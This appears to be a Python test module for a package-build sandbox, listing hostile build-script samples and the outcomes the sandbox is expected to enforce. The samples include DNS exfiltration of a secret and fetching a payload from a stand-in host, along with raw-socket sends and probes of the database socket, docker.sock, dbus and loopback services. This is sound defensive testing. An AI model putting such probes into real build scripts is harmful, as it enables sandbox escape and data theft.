# ruff: noqa: E501 - the scripts of strangers
"""Attacks that speak with somebody: nothing is there but a loopback interface of the build's own."""

from piwheels_builder.states import Outcome
from tests.hostile.attack import Attack, in_script, provable

ATTACKS: tuple[Attack, ...] = (
    in_script(
        "tcp",
        "connects to the network, and does not catch what comes of it",
        "import socket; socket.create_connection(('192.0.2.1', 443), 5)",
        Outcome.NEEDS_NETWORK,
    ),
    in_script(
        "dns",
        "sends what it found by a name to look up",
        "import socket; socket.getaddrinfo('secret.' + W['mark'] + '.invalid', 80)",
        Outcome.NEEDS_NETWORK,
    ),
    in_script(
        "http",
        "downloads the rest of itself",
        "import urllib.request; urllib.request.urlopen('http://upstream.invalid/payload.py')",
        Outcome.NEEDS_NETWORK,
    ),
    in_script(
        "udp_ipv6_and_raw",
        "sends by UDP, IPv6, raw and packet sockets, and looks for interfaces to send by",
        """
        import socket
        for family, kind, address in (
            (socket.AF_INET, socket.SOCK_DGRAM, ('192.0.2.1', 53)),
            (socket.AF_INET, socket.SOCK_DGRAM, ('255.255.255.255', 9)),
            (socket.AF_INET6, socket.SOCK_STREAM, ('2001:db8::1', 443)),
            (socket.AF_INET6, socket.SOCK_DGRAM, ('ff02::1', 5353)),
            (socket.AF_INET, socket.SOCK_RAW, ('192.0.2.1', 0)),
            (socket.AF_PACKET, socket.SOCK_RAW, ('eth0', 0)),
        ):
            try:
                sending = socket.socket(family, kind, socket.IPPROTO_ICMP if kind == socket.SOCK_RAW and family == socket.AF_INET else 0)
                sending.settimeout(2)
                sending.connect(address) if kind == socket.SOCK_STREAM else sending.sendto(b'x', address)
            except OSError as error:
                lost(family, kind, error)
            else:
                won('sent', family, kind, address)
        print('interfaces', [name for _, name in socket.if_nameindex()])
        if {name for _, name in socket.if_nameindex()} - {'lo', 'tunl0', 'sit0', 'ip6tnl0', 'gre0', 'gretap0', 'erspan0', 'ip_vti0', 'ip6_vti0', 'ip6gre0'}:
            won('an interface')
        """,
        says="interfaces",
    ),
    provable(
        "loopback_services",
        "speaks with services that listen on this host's loopback interface, by TCP, UDP and IPv6",
        """
        import socket
        for family, kind, address in (
            (socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', W['tcp'])),
            (socket.AF_INET6, socket.SOCK_STREAM, ('::1', W['tcp6'])),
            (socket.AF_INET, socket.SOCK_DGRAM, ('127.0.0.1', W['udp'])),
        ):
            def reach():
                speaking = socket.socket(family, kind)
                speaking.connect(address)
                speaking.send(b'hello')
                return 'REACHED'
            tried(address, reach)
        """,
    ),
    provable(
        "database_port",
        "connects to the database as the builder does",
        """
        import socket
        tried('database', lambda: socket.create_connection(('127.0.0.1', W['database']), 5).send(b'\\0\\0\\0\\10\\4\\322\\26\\57'))
        for name in ('/run/postgresql/.s.PGSQL.5432', '/tmp/.s.PGSQL.5432', '/var/run/docker.sock', '/run/systemd/private', '/run/dbus/system_bus_socket'):
            def reach():
                socket.socket(socket.AF_UNIX).connect(name)
            if os.path.isdir('/driver'):
                tried(name, reach)
                if os.path.exists(name):
                    won('sees', name)
        """,
    ),
    provable(
        "unix_sockets",
        "connects to abstract sockets, which are in no directory, and to sockets in directories",
        """
        import socket
        for name in ('\\0' + W['abstract'], W['unix']):
            tried(name, lambda: socket.socket(socket.AF_UNIX).connect(name))
        print('all', open('/proc/net/unix').read()[-2000:])
        """,
    ),
    in_script(
        "meets_another_build",
        "listens on a port and an abstract socket that a build in another slot knows, and waits for it",
        """
        import socket
        listening = socket.socket(socket.AF_UNIX)
        listening.bind('\\0meet-' + W['mark'])
        other = socket.create_server(('127.0.0.1', 47110))
        print('listens')
        listening.close(); other.close()
        """,
        says="listens",
    ),
)
